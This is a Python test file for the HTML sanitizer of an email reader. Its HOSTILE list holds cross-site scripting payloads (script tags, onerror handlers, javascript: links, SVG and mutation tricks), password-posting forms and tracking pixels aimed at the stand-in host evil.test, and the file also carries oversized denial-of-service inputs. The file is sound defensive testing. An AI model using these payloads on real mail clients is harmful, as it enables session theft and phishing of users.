"""Attacks L: HTML of strangers. Each hostile piece is known from an attack on a webmail."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zajil.read.html_text import html_to_marked_text
from zajil.read.picture_fetch import PictureLinks
from zajil.read.safe_html import SafeHtml, make_safe
from zajil.read.safe_style import safe_style

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    # CVE-2025-68461: Roundcube, SVG animate.
    '<svg><animate attributeName=href values="javascript:alert(1)" /></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvA&#x09;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.test/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.test/"><input name=password><button>ok</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.test/">',
    '<base href="https://evil.test/">',
    '<link rel=stylesheet href="https://evil.test/x.css">',
    "<style>@import 'https://evil.test/x.css'; p{background:url(https://evil.test/)}</style>",
    '<p style="background:url(https://evil.test/x)">x</p>',
    '<p style="background-color:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
    "<p style=\"font-family:'x;background:url(https://evil.test/)'\">x</p>",
    '<p style="width:calc(1px*attr(x))">x</p>',
    '<p style="color:var(--x)">x</p>',
    '<table background="https://evil.test/x"><tr><td>x</td></tr></table>',
    '<video src="https://evil.test/x" autoplay></video>',
    '<object data="https://evil.test/x"></object><embed src="https://evil.test/x">',
    '<img src="https://evil.test/pixel.png">',
    '<img srcset="https://evil.test/pixel.png 1x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<input type=image src="https://evil.test/x">',
    '<div id="login" class="password" name=x>x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
]
FORBIDDEN = re.compile(
    r"<(?:script|svg|math|iframe|form|input|button|meta|base|link|style|video|object|embed|template)"
    r"|\bon[a-z]+\s*=|javascript:|data:|url\(|expression|position|@import|srcset|var\(|calc|attr\("
    r"|evil\.test/(?:x|pixel)|\bid=|\bclass=|\bname=|background=",
    re.I,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_made_harmless(html: str) -> None:
    safe = make_safe(html).html
    tags = "".join(re.findall(r"<[^>]*>", safe))
    assert not FORBIDDEN.search(tags), safe


@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=10), max_size=6).map("".join))
def test_no_mixture_of_hostile_pieces_gets_through(html: str) -> None:
    tags = "".join(re.findall(r"<[^>]*>", make_safe(html).html))
    assert not FORBIDDEN.search(tags)
    assert make_safe(make_safe(html).html).html == make_safe(html).html


def test_remote_images_load_only_when_the_reader_asks() -> None:
    html = '<img src="https://shop.test/a.png" alt="x"><img src="http://shop.test/b.png">'
    kept = make_safe(html)
    assert kept.blocked == 2
    assert "shop.test" not in kept.html
    assert make_safe(html, remote_url=lambda url: f"/p?{url}").html.count("/p?http") == 2


def test_inline_images_come_from_our_own_address() -> None:
    html = '<img src="cid:a@b"><img src="CID:none"><a href="cid:a@b">x</a>'
    safe = make_safe(html, inline_url=lambda cid: "/part/2" if cid == "a@b" else None)
    assert '<img src="/part/2">' in safe.html
    assert safe.html.count("src=") == 1
    assert "href" not in safe.html
    assert safe.blocked == 0


def shown(html: str, sheets: str = "") -> SafeHtml:
    """Make HTML safe for a reader who asked for pictures."""
    own = {"a@b": "data:image/png;base64,AA+/="}
    links = PictureLinks("secret")
    return make_safe(html, sheets=sheets, remote_url=links.address, inline_url=own.get)


PICTURE = re.escape(PictureLinks("secret").address("https://a.test/x"))


@pytest.mark.parametrize(
    ("html", "style"),
    [
        ('<table background="https://a.test/x">', "background-image:url(%s)"),
        ('<td background="cid:a@b">', "background-image:url(data:image/png;base64,AA+/=)"),
        (
            '<body background="https://a.test/x" style="margin:0">',
            "background-image:url(%s);margin:0",
        ),
        ('<p style="background:url(https://a.test/x)">', "background-image:url(%s)"),
        (
            "<p style=\"background: #012 url('https://a.test/x') no-repeat center top / cover\">",
            "background-image:url(%s);background-repeat:no-repeat;background-position:center top;"
            "background-size:cover;background-color:#012",
        ),
        (
            '<p style="background-image:url(&quot;https://a.test/x&quot;);background-size:9px">',
            "background-image:url(%s);background-size:9px",
        ),
        (
            '<p style="background:url(https://a.test/x) 0 0, url(https://a.test/y) red">',
            "background-image:url(%s);background-color:red",
        ),
    ],
)
def test_backgrounds_are_shown_as_pictures_are(html: str, style: str) -> None:
    html = f"<table><tr>{html}x</table>" if html.startswith("<td") else f"{html}x"
    assert style.replace("%s", PICTURE.replace("&", "&amp;")).replace("\\", "") in shown(html).html
    kept = make_safe(html)
    assert kept.blocked == html.count("https:") - html.count("/y")
    assert "url(" not in kept.html
    assert "a.test" not in kept.html


@pytest.mark.parametrize(
    "html",
    [
        '<p style="background:url(x.png)">',
        '<p style="background:url(//a.test/x)">',
        '<p style="background:url(data:image/png;base64,AA)">',
        '<p style="background:url(javascript:x)">',
        '<p style="background:image-set(url(https://a.test/x) 1x)">',
        '<p style="background:url(https://a.test/x' + "'" + ')">',
        '<p style="background-color:url(https://a.test/x)">',
        '<p style="list-style:url(https://a.test/x)">',
        '<p style="border-image:url(https://a.test/x)">',
        '<p style="cursor:url(https://a.test/x),auto">',
        '<p background="https://a.test/x">',
        '<td background="x.png">',
    ],
)
def test_other_addresses_in_styles_are_dropped(html: str) -> None:
    assert "url(" not in shown(f"<table><tr>{html}x</table>").html
    assert shown(f"<table><tr>{html}x</table>").blocked == 0


def test_a_background_cannot_end_its_value() -> None:
    address = "https://a.test/');color:red;x:url(x)</style>"
    quoted = address.replace("'", "\\27 ").replace("<", "\\3c ")
    sheet = f".a{{background:url('{quoted}')}}"
    for safe in (
        shown(f"<p style=\"background:url('{quoted}')\">x"),
        shown('<p class="a">x', sheet),
        shown(f'<table background="{address}"><tr><td>x</table>'),
    ):
        assert safe.html.count("url(") == 1
        assert "color:red" not in safe.html
        assert "url(/picture?url=https%3A%2F%2Fa.test%2F%27%29%3Bcolor" in safe.html
    # Nor may the unit of a length, whose escapes are written again.
    for unit in ("\\;\\;", "\\;color\\:#fff", "\\)", "\\"):
        safe = shown(f'<p style="color:#fff;background:url(https://a.test/x) 1{unit}">x')
        assert "background-image:url(/picture?" in safe.html
        assert "\\" not in safe.html


def test_a_picture_as_ground_leaves_the_ink_alone() -> None:
    """Unless a colour stands beside it: that is the ground where the picture does not come."""
    on = '<div style="background:%s"><p style="color:#fff">x</p></div>'
    assert "color:#fff" in shown(on % "url(https://a.test/x)").html
    assert "color:#fff" in shown(on % "#000 url(https://a.test/x)").html
    assert "color:#1b252d" in shown(on % "#fff url(https://a.test/x)").html
    assert "color:#1b252d" in make_safe(on % "url(https://a.test/x)").html
    inside = on % "url(https://a.test/x)"
    inside = inside.replace("<p ", '<div style="background:#fff"><p ')
    assert "color:#1b252d" in shown(inside).html
    sheet = ".a{background:url(https://a.test/x)}.b{color:#fff}"
    html = '<div class="a"><p class="b">x</p></div>'
    assert "#1b252d" not in shown(html, sheet).html
    assert "#1b252d" in make_safe(html, sheets=sheet).html


def test_pictures_within_a_message_are_not_multiplied() -> None:
    """``inline_url`` bounds what it returns; so it is asked for each background."""
    asked: list[str] = []

    def inline_url(name: str) -> str:
        asked.append(name)
        return "data:image/png;base64,AA"

    html = '<p style="background:url(cid:a)">x</p>' * 9
    make_safe(html, inline_url=inline_url)
    assert len(asked) == 9


@pytest.mark.parametrize(
    "url", ["/logout", "//evil.test/x", "x.png", "ftp://evil.test/x", "?a=b", "#x"]
)
def test_what_has_no_scheme_or_a_strange_one_is_dropped(url: str) -> None:
    """An address without a scheme would be one of ours: ``/logout``."""
    safe = make_safe(f'<a href="{url}">x</a><img src="{url}">', remote_url=lambda url: f"/p?{url}")
    assert "<img>" in safe.html
    assert "href" not in safe.html


def test_what_letters_need_is_kept() -> None:
    html = (
        '<table width="600" align="center" cellpadding="0"><tr><td bgcolor="#fff" colspan="2">'
        '<p dir="rtl" lang="ar" style="color: #123456; text-align: right; margin: 0 auto">'
        '<b>سلام</b> <a href="https://x.test/?a=1&amp;b=2">x</a></p></td></tr></table>'
    )
    safe = make_safe(html).html
    for kept in ('dir="rtl"', 'lang="ar"', "color:#123456", "text-align:right", "<b>سلام</b>",
                 'href="https://x.test/?a=1&amp;b=2"', 'bgcolor="#fff"',
                 'rel="noopener noreferrer nofollow"',
                 'target="_blank"'):  # fmt: skip
        assert kept in safe


@pytest.mark.parametrize(
    ("style", "safe"),
    [
        ("color:red", "color:red"),
        ("COLOR: rgb(1, 2, 3) !important; x-y: z", "color:rgb(1, 2, 3)!important"),
        ("color:" + "(" * 2000, None),
        ("background:" + "a(" * 1500, None),
        ("min-height:100vh; width:50dvw; height:9px", "height:9px"),
        ("position:fixed; z-index:9; transform:scale(9); content:'x'; opacity:0", None),
        ("font: bold 12px/1.5 'Noto Naskh', serif", "font:bold 12px/1.5 'Noto Naskh', serif"),
        ("font-family: 'url(x)'", None),
        ("color:rgb(url(x))", None),
        ("background:red", "background-color:red"),
        ("background: #0b6a63 url(https://x.test/a.png) no-repeat", "background-color:#0b6a63"),
        ("background: linear-gradient(90deg, #012, #345)", "background-color:#012"),
        ("background-image: -webkit-linear-gradient(top, rgb(1,2,3), red)",
         "background-color:rgb(1,2,3)"),
        ("background-color:#123; background-image: linear-gradient(red, blue)",
         "background-color:#123"),
        ("background: url(https://x.test/a.png)", None),
        ("background: none", None),
        ("background-color: attr(x)", None),
        ("color: initial; color: nonsense", None),
        ("color: inherit", "color:inherit"),
        ("color:{x}", None),
        ("\\63olor:red", "color:red"),
        ("color:r\\65 d", "color:red"),
        ("color:red" + " " * 5000, None),
        ("", None),
    ],
)  # fmt: skip
def test_styles(style: str, safe: str | None) -> None:
    written = safe_style(style)
    assert (written or "").replace('"', "'") == (safe or "")


@given(st.text(alphabet="color:red;{}()url'\"\\/*@!<>#-", max_size=80))
def test_a_safe_style_stays_safe_when_read_again(style: str) -> None:
    written = safe_style(style)
    if written is not None:
        assert "url(" not in written.lower()
        assert "<" not in written or '"' in written or "'" in written
        assert safe_style(written) == written


def test_cve_2024_45626_bombs_end_soon() -> None:
    for bomb in ("<div>" * 200_000, "&" * 1_000_000, "\x00" * 1_000_000, "<" * 1_000_000,
                 "<b><i><u>" * 100_000, "<table>" * 140_000, "<!--" * 250_000,
                 '<p style="color:' + "a " * 1900 + '">' ):  # fmt: skip
        make_safe(bomb)
        html_to_marked_text(bomb)
    html_to_marked_text(f'<a href="https://a.test/{"x" * 3900}">' + "x<br>" * 9000)
    make_safe(('<p style="color:' + "a " * 1900 + '">') * 250)


def test_what_was_cut_shows_that_it_was() -> None:
    assert make_safe("<p>x" * 30_000).html.rstrip("</p>").endswith("…")
    assert "…" not in make_safe("<p>x" * 100).html


def test_text_of_html_keeps_words_and_blocks() -> None:
    html = "<style>p{}</style><h1>سلام</h1><p>one&nbsp;&amp; two<br>three</p><div>four<!-- no -->"
    assert html_to_marked_text(html) == "سلام\n\none & two\nthree\n\nfour"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>سلام<p>عالم", "سلام\n\nعالم"),
        ("<table><tr><td>Rose<td>3<tr><th>Lily</th><th>4</th></table>", "Rose 3\nLily 4"),
        ("<td>Rose</td><td>3</td>", "Rose 3"),
        ("<ul><li>one<li>two</ul>", "one\ntwo"),
        ("<dl><dt>word<dd>meaning</dl>", "word\nmeaning"),
        ("one<hr>two<div>three</div>four", "one\ntwo\nthree\nfour"),
        ("<center>a</center>b<section>c</section>d<form>e</form>f", "a\nb\nc\nd\ne\nf"),
        (f'one<p style="{"margin: 0;" * 40}">two', "one\n\ntwo"),
        ('<span style="display: block">one</span><b style="display:table">two</b>', "one\ntwo"),
        (
            '<i style="Display : table-row"><b style="display:table-cell">one</b>'
            '<b style="display:table-cell">two</b></i><i style="display:table-row">three</i>',
            "one two\nthree",
        ),
        ('<b style="display:inline-table">one</b><b style="display:inline-flex">two</b>', "onetwo"),
        ("<pre>if x:\n    go\n\nend</pre>", "if x:\n    go\n\nend"),
        ('<div style="white-space:pre-wrap">a\n b</div>', "a\n b"),
        ("<p>one\n two</p>\n\n<p>three</p>", "one two\n\nthree"),
        ("<div>a</div><div><br></div><div>b<br></div>c<br><br>d", "a\n\nb\nc\n\nd"),
        ("<select><option>x<option>y</select><button>A</button><button>B</button>", "x\ny\nA B"),
        ("<b>bo</b>ld <i>words</i>, x<wbr>y", "bold words, xy"),
        ("<h2 title='a>b'>one</h2>two", "one\n\ntwo"),
    ],
)  # fmt: skip
def test_words_of_blocks_and_cells_stay_apart(html: str, text: str) -> None:
    """A browser shows them apart; tags whose end is implied too."""
    assert html_to_marked_text(html) == text


def test_a_page_sets_paragraphs_apart() -> None:
    assert html_to_marked_text("<h1>a</h1><p>b<br>c<p>d<div>e</div>") == "a\n\nb\nc\n\nd\n\ne"


@given(st.text(max_size=200))
def test_no_text_makes_it_raise(html: str) -> None:
    clean = html.encode("utf-8", "replace").decode()
    make_safe(clean)
    html_to_marked_text(clean)


def test_a_url_as_the_text_of_a_link_reads_from_left_to_right() -> None:
    url = "https://a.test/b/?c=1"
    once = make_safe(f'<p dir="rtl">هنا <a href="{url}">{url}</a> و<a href="{url}">نص</a></p>').html
    assert f'<bdi dir="ltr">{url}</bdi></a>' in once
    assert once.count("<bdi") == 1
    assert make_safe(once).html == once
